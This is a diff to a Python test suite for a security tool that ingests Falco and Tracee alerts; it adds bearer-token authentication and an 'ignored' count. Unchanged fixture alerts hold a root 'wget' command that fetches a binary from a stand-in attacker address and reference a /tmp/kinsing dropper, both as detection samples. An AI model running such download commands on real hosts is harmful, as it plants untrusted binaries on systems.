@@ -7,6 +7,7 @@ from __future__ import annotations
 import hashlib
 import http.client
 import json
+import os
 import signal
 import socket
 import subprocess
@@ -70,7 +71,10 @@ def test_reachable_host_file_gets_full_analysis(writer: tuple[subprocess.Popen[b
                  "proc.exepath": "/usr/bin/wget", "proc.cmdline": f"wget -O {target} http://198.51.100.7/bb",
                  "proc.ppid": 1, "proc.pname": "systemd", "user.name": "root", "user.uid": 0}}  # fmt: skip
     findings, summary = _ingest("falco", db, json.dumps(alert).encode() + b"\n")
-    assert "1 lines read, 1 events kept, 0 rejected; 1 analysed in full, 1 findings (0 from the event alone)" in summary
+    assert (
+        "1 lines read, 1 events kept, 0 rejected, 0 ignored; 1 analysed in full, 1 findings (0 from the event alone)"
+        in summary
+    )
     (finding,) = findings
     assert (finding.category, finding.severity, finding.source) == ("Suspicious binary", "high", "ingest:falco")
     assert finding.file.path == str(target)
@@ -98,7 +102,10 @@ def test_unreachable_file_gets_an_event_only_finding(tmp_path: Path) -> None:
     }  # no drift verdict: no finding
     lines = [json.dumps(DROP), json.dumps(shell), "{broken"]
     findings, summary = _ingest("falco", db, "\n".join(lines).encode(), "--cluster", "prod")
-    assert "3 lines read, 2 events kept, 1 rejected; 0 analysed in full, 1 findings (1 from the event alone)" in summary
+    assert (
+        "3 lines read, 2 events kept, 1 rejected, 0 ignored; 0 analysed in full, 1 findings (1 from the event alone)"
+        in summary
+    )
     (finding,) = findings
     assert (finding.category, finding.severity, finding.source) == ("Added Binary Executed", "low", "ingest:falco")
     assert finding.file.path == "/tmp/kinsing" and finding.file.sha256 == "" and finding.file.elf is None
@@ -140,8 +147,12 @@ def _free_port() -> int:
         return int(sock.getsockname()[1])
 
 
+TOKEN = "falco-sender-secret-0123456789"
+
+
 def _post(url: str, body: bytes) -> tuple[int, dict[str, int]]:
-    request = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"}, method="POST")
+    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {TOKEN}"}
+    request = urllib.request.Request(url, data=body, headers=headers, method="POST")
     try:
         with urllib.request.urlopen(request, timeout=30) as response:
             return response.status, json.loads(response.read())
@@ -154,7 +165,8 @@ def test_http_endpoint_takes_falco_and_falcosidekick_posts(tmp_path: Path) -> No
     db = f"sqlite:///{tmp_path / 'http.db'}"
     port = _free_port()
     server = subprocess.Popen([BINDRIFT, "ingest", "--from", "falco", "--db", db, "--listen", str(port)],
-                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                              env={**os.environ, "BINDRIFT_ADMIN_TOKEN": TOKEN})  # fmt: skip
     try:
         deadline = time.monotonic() + 20
         while time.monotonic() < deadline:
@@ -166,18 +178,19 @@ def test_http_endpoint_takes_falco_and_falcosidekick_posts(tmp_path: Path) -> No
                 time.sleep(0.05)
         url = f"http://127.0.0.1:{port}/"
         # Falco http_output: one alert per POST.
-        assert _post(url, json.dumps(DROP).encode()) == (200, {"kept": 1, "rejected": 0})
+        assert _post(url, json.dumps(DROP).encode()) == (202, {"kept": 1, "rejected": 0, "ignored": 0})
         # Falcosidekick webhook output: uuid added, customfields merged, RFC3339Nano time, source defaulted.
         sidekick = {k: v for k, v in DROP.items() if k != "source"}
         sidekick |= {"uuid": "2a5b6e1c-9d0f-4c6b-8f4e-0c6c1f4a7f10",
                      "output_fields": {**DROP["output_fields"], "env": "prod"}}  # type: ignore[dict-item]  # fmt: skip
-        assert _post(url, json.dumps(sidekick).encode()) == (200, {"kept": 1, "rejected": 0})
-        assert _post(url, b"{not json") == (400, {"kept": 0, "rejected": 1})
+        assert _post(url, json.dumps(sidekick).encode()) == (202, {"kept": 1, "rejected": 0, "ignored": 0})
+        assert _post(url, b"{not json") == (400, {"kept": 0, "rejected": 1, "ignored": 0})
         # JSON lines in one body: each line counted
         shell = {**DROP, "rule": "Terminal shell in container", "output_fields": {"evt.time": 1, "proc.name": "sh"}}
-        assert _post(url, json.dumps(shell).encode() + b"\n\n[]\n") == (200, {"kept": 1, "rejected": 1})
+        assert _post(url, json.dumps(shell).encode() + b"\n\n[]\n") == (202, {"kept": 1, "rejected": 1, "ignored": 0})
         connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
         connection.putrequest("POST", "/")
+        connection.putheader("Authorization", f"Bearer {TOKEN}")
         connection.putheader("Content-Length", str(5 << 20))  # over the bound: refused before the body is read
         connection.endheaders()
         assert connection.getresponse().status == 413
@@ -211,7 +224,10 @@ def test_tracee_drop_then_exec_joins_the_writer(tmp_path: Path) -> None:
     findings, summary = _ingest(
         "tracee", f"sqlite:///{tmp_path / 't.db'}", drop + b"\n" + json.dumps(execution).encode()
     )
-    assert "2 lines read, 2 events kept, 0 rejected; 0 analysed in full, 1 findings (1 from the event alone)" in summary
+    assert (
+        "2 lines read, 2 events kept, 0 rejected, 0 ignored; 0 analysed in full, 1 findings (1 from the event alone)"
+        in summary
+    )
     (finding,) = findings
     assert (finding.category, finding.source, finding.file.path) == (
         "Added Binary Executed", "ingest:tracee", "/usr/bin/strace.dpkg-new")  # fmt: skip
